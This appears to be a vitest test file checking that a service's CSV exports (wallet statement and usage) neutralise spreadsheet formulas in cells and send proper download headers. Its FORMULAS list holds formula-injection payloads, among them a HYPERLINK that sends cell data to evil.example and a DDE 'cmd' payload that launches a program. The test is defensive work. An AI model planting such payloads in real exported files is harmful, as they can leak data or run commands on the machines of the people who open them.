import { beforeAll, describe, expect, it } from 'vitest'
import { type ConsolePerson, signUp } from '../../support/console-session.ts'
import { chat } from '../../support/send-chat.ts'
import { openAccount } from '../../support/test-account.ts'
import { useServer } from '../../support/use-server.ts'

const server = useServer({ clock: 'still' })

/** What a spreadsheet would calculate, or run, if it stood in a cell as it is. */
const FORMULAS = [
  '=1+1',
  '+A1',
  '-2+3',
  '@SUM(A1)',
  '=HYPERLINK("http://evil.example?"&A1,"here")',
  "=cmd|' /C calc'!A0",
  '"=1+1"',
  'a,=1+1',
]

let owner: ConsolePerson
let today: string
let tomorrow: string

beforeAll(async () => {
  const account = await openAccount(server(), { credit: '0' })
  owner = await signUp(server(), { email: 'owner@walk.example', account: account.id })
  const money = { account: account.id, amount: '1.00' }
  for (const [index, formula] of FORMULAS.entries()) {
    await server().operate('wallet.credit', { ...money, reason: formula, ref: index === 0 ? formula : `ref-${index}` })
    const { secret } = await owner.call('POST /keys', { body: { name: formula, kind: 'wallet' } })
    expect((await chat(server(), { key: secret })).status).toBe(200)
  }
  const now = server().app.operations.clock.now()
  today = new Date(now).toISOString().slice(0, 10)
  tomorrow = new Date(now + 86_400_000).toISOString().slice(0, 10)
})

const usage = () => ({ from: today, to: tomorrow, zone: 'UTC', step: 'day', by: 'key' }) as const

/** The cells of a file, as RFC 4180 has them read. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
    if (end !== ',') rows.push([])
  }
  return rows.slice(0, -1)
}

describe.each([
  ['GET /wallet/statement.csv', () => ({}), 'millrace-statement.csv'],
  ['GET /usage.csv', usage, 'millrace-usage.csv'],
] as const)('%s', (name, query, file) => {
  it('downloads as text with no-store', async () => {
    const reported = await owner.send(name, { query: query() })
    expect(reported.status).toBe(200)
    expect(Object.fromEntries(reported.headers)).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': `attachment; filename="${file}"`,
      'x-content-type-options': 'nosniff',
      'cache-control': 'no-store',
    })
    expect(reported.headers.get('x-request-id')).toMatch(/^req_/)
  })

  it('has every row, and no cell starts a formula', async () => {
    const { text } = await owner.send(name, { query: query() })
    const rows = cellsOf(text)
    expect(rows.length).toBeGreaterThan(FORMULAS.length)
    for (const row of rows) expect(row, row.join(' | ')).toHaveLength(rows[0]!.length)
    const begins = rows.flat().filter((cell) => /^\s*[=+@|%]|^\s*-(?!\d+(\.\d+)?$)/.test(cell))
    expect(begins).toEqual([])
    const cells = new Set(rows.flat())
    for (const formula of FORMULAS) {
      const isHarmless = /^["a]/.test(formula)
      expect(cells.has(isHarmless ? formula : `'${formula}`), formula).toBe(true)
    }
  })
})

it('an export that fails returns an error, not a file', async () => {
  const reported = await owner.send('GET /usage.csv', { query: { ...usage(), from: tomorrow, to: today } })
  expect(reported.error?.code).toBe('invalid_range')
  expect(reported.headers.get('content-disposition')).toBeNull()
  expect(reported.headers.get('content-type')).toBe('application/json')
})
